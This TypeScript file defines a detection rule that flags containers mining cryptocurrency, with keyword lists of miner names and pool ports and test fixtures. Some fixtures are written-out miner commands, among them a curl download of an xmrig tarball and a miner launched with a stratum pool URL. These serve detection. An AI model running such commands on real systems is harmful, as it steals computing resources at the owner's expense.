import { containsAny, defineDetection, integers, isOneOf, strings, syscalls } from "portcullis";
import { connection, inContainer, newProcess, place, serverIn } from "./events.ts";
import { build, by, connects, node, proxy, started, web, worker } from "./fixtures.ts";

export default defineDetection({
  title: "A container mines cryptocurrency",
  description: "Mining is what most intruders do with a cluster that they got into. It costs its owner money, and shows that somebody can run what they like.",
  severity: "critical",
  frameworks: { nsa: { "1.2": ["log/alerts"] }, owasp: { "2022": ["K05"], "2025": ["K10"] }, seed: ["H07"] },
  techniques: ["T1496"],
  source: syscalls(),
  parameters: {
    ports: integers({ default: [3333, 3334, 3335, 4444, 5555, 7777, 9999, 14433, 14444, 45560, 45700], description: "Ports of mining pools. Those of common services, which pools use too, would report everybody." }),
    names: strings({ default: ["xmrig", "minerd", "cpuminer"], description: "Names of miners, anywhere in a command line." }),
  },
  rules: {
    a: {
      title: "A container talked to a port that mining pools use",
      when: ({ event, parameters }) => connection(event) && inContainer(event) && isOneOf(event["fd.sport"], parameters.ports) && event["fd.sip"] !== undefined && !serverIn(event, privateNets),
      fields: ["fd.name", "fd.sip", "fd.sport", "proc.cmdline", "proc.exepath", ...place],
    },
    b: {
      title: "A miner was started in a container",
      when: ({ event, parameters }) => newProcess(event) && inContainer(event) && (containsAny(event["proc.cmdline"], stratum) || containsAny(event["proc.cmdline"], parameters.names)),
      fields: ["proc.cmdline", "proc.exepath", "proc.pname", ...place],
    },
  },
  response: "End the pod, find out how the program came in, and look for the same image and account elsewhere in the cluster.",
  fires: [
    { name: "a pool's port", event: { ...worker, ...by("kdevtmpfsi", "kdevtmpfsi"), ...connects("203.0.113.91", 3333) }, findings: ["a"] },
    { name: "a pool's port over IPv6", event: { ...worker, ...by("kdevtmpfsi", "kdevtmpfsi"), ...connects("2001:db8:90::91", 14444) }, findings: ["a"] },
    { name: "a miner under another name", event: { ...worker, ...started("node", "node -o stratum+ssl://pool.example.net:443 -u wallet") }, findings: ["b"] },
    { name: "a miner under its own name", event: { ...worker, ...started("xmrig", "xmrig --config=/tmp/c.json") }, findings: ["b"] },
    { name: "a miner is fetched", event: { ...web, ...started("curl", "curl -LO https://203.0.113.66/xmrig-6.22.0-linux-static-x64.tar.gz") }, findings: ["b"] },
  ],
  quiet: [
    { name: "a browser test talks to its grid in the cluster", event: { ...build, ...by("java", "java -jar tests.jar"), ...connects("10.244.7.20", 4444) } },
    { name: "the same over IPv6", event: { ...build, ...by("java", "java -jar tests.jar"), ...connects("fd00:10:244::90", 5555) } },
    { name: "a mesh's proxy connects inside a shared address range", event: { ...proxy, ...by("envoy", "envoy", "pilot-agent"), ...connects("100.64.12.7", 9999) } },
    { name: "a connection that was refused", event: { ...worker, ...by("app", "app"), ...connects("203.0.113.91", 3333), "evt.res": "ECONNREFUSED", "evt.rawres": -111 } },
    { name: "a JVM whose options are many", event: { ...worker, ...started("java", "java -XX:+UseStringDeduplication -jar app.jar") } },
    { name: "the node looks for miners itself", event: { ...node, ...started("pgrep", "pgrep xmrig", "cron") } },
  ],
});

const privateNets: readonly string[] = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "169.254.0.0/16", "127.0.0.0/8", "::1/128", "fc00::/7", "fe80::/10"];

const stratum: readonly string[] = ["stratum+tcp", "stratum2+tcp", "stratum+ssl"];
